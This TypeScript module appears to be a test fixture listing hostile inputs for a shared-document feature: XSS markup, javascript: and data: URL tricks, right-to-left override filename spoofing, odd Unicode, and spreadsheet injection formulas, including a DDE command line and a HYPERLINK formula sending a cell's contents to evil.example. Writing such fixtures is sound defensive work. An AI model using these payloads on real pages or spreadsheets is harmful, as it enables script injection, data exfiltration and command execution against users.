/*
 * What somebody may write into a shared document to do harm on the pages of others (sync.md 6.2). Every text of this list calls `pwned()` or asks
 * `evil.example` for something, should a page ever take it for more than a text.
 */

/** Markup that would run or load. */
export const HOSTILE_MARKUP = [
  '<script>pwned()</script>',
  '<img src=x onerror=pwned()>',
  '<img src="https://evil.example/pixel.png">',
  '"><svg onload=pwned()>',
  "' onmouseover='pwned()' autofocus onfocus='pwned()",
  '</textarea></style></title><script>pwned()</script>',
  '<iframe srcdoc="<script>parent.pwned()</script>"></iframe>',
  '<a href="javascript:pwned()">click</a>',
  '{{constructor.constructor("pwned()")()}} ${pwned()} <%= pwned() %>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwned()&gt;">',
  'expression(pwned()); background: url(https://evil.example/css.png)',
] as const;

/** Addresses that must not become links, or must not lead where they seem to. */
export const HOSTILE_ADDRESSES = [
  'javascript:pwned()',
  'JaVa\tScRiPt:pwned()',
  'java\u0000script:pwned()',
  '\u0001javascript:pwned()',
  ' javascript:pwned()',
  'javascript\u200b:pwned()',
  '&#106;avascript:pwned()',
  'data:text/html,<script>pwned()</script>',
  'data:image/svg+xml,<svg onload=pwned()>',
  'vbscript:pwned()',
  'file:///etc/passwd',
  'blob:https://evil.example/1',
  '//evil.example/a',
  '/\\evil.example/a',
  '\\\\evil.example\\a',
  'https://bank.example@evil.example/',
  'https://evil.example/\u202egnp.exe',
] as const;

/** Marks that turn the direction of what stands around them, or that cannot be seen. */
export const HOSTILE_DIRECTIONS = [
  'fatura\u202efdp.exe',
  '\u202e\u202e\u202eterceme',
  'ad \u2067soyad',
  '\u2069\u202c\u2069 sonra',
  '\u202dabc \u202b\u05d0\u05d1\u05d2',
  'LRM \u200e RLM \u200f ALM \u061c',
  'sıfır\u200bgenişlik\ufeff',
] as const;

/** Texts of unusual length and letters. */
export const HOSTILE_LETTERS = [
  'A'.repeat(10_000),
  '👩‍👩‍👧‍👦'.repeat(50),
  `Z${'\u0351\u0352\u0353'.repeat(200)}`,
  '\ud800 yarım',
  'satır\nsonu\u2028ayırıcı\u0007zil',
  '__proto__ constructor toString',
  'null undefined NaN -0 1e999',
] as const;

/** What spreadsheets would calculate. */
export const HOSTILE_FORMULAS = [
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  '=HYPERLINK("https://evil.example/?x="&A1,"ok")',
] as const;

/** All of them. */
export const HOSTILE_STRINGS: readonly string[] = [
  ...HOSTILE_MARKUP,
  ...HOSTILE_ADDRESSES,
  ...HOSTILE_DIRECTIONS,
  ...HOSTILE_LETTERS,
  ...HOSTILE_FORMULAS,
];
